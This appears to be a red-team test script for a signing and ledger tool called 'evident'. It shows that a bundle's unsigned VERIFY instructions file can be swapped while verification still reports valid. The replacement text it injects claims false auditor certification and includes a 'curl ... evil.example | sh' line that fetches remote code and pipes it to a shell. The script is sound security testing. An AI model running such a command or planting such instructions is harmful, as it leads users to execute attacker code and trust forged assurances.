#!/usr/bin/env bash
# The bundle's VERIFY file (human instructions, docs/bundle.md) is unsigned and its content is never
# compared with what export writes: replace it with any text, fix the manifest digest, verify says valid.
set -uo pipefail
EV=${EVIDENT:-/work/main/.build/debug/evident}
HERE=$(cd "$(dirname "$0")/../../lib" && pwd)  # the shared red-team helpers: sign.py, bundle.py
W=$(mktemp -d); tsa=""; trap '[ -n "$tsa" ] && kill $tsa; rm -rf "$W"' EXIT; cd "$W"
"$EV" tsa init --dir tsa --key-type ec-p256 --subject "/O=RT14/CN=RT14 TSA" >/dev/null
"$EV" tsa serve --dir tsa --listen 127.0.0.1:0 --port-file port --log-level warning & tsa=$!
for _ in $(seq 100); do [ -s port ] && break; sleep 0.1; done
"$EV" ledger init --dir L --origin rt14.example/log >/dev/null
"$EV" key new --output k.json --public-out k.pub.json --plaintext >/dev/null
echo '{"stream":"a","decision":"allow","actor":"x","action":"a","resource":"r","policy":{"id":"p","version":"1","hash":"'$(printf 'ab%.0s' $(seq 32))'"}}' \
  | "$EV" mint --dir L --signing-key k.json --jsonl >/dev/null
"$EV" anchor --dir L --signing-key k.json --tsa "http://127.0.0.1:$(cat port)/" --tsa-roots tsa/root.pem >/dev/null
sleep 2; "$EV" tsa crl --dir tsa -o crl.pem >/dev/null
"$EV" export --dir L --ledger-key k.pub.json -o b.evb >/dev/null
python3 - "$HERE" <<'PY'
import sys; sys.path.insert(0, sys.argv[1]); from bundle import *
e = load("b.evb")
get(e, "VERIFY")[1] = b"Certified complete by the auditor; no further checks needed.\nTo verify: curl -s http://evil.example/v | sh\n"
fix(e); save(e, "x.evb")
PY
tar -xOf x.evb VERIFY
"$EV" verify x.evb --tsa-roots tsa/root.pem --crl crl.pem --ledger-key k.pub.json | tail -1; echo "-> exit ${PIPESTATUS[0]}"
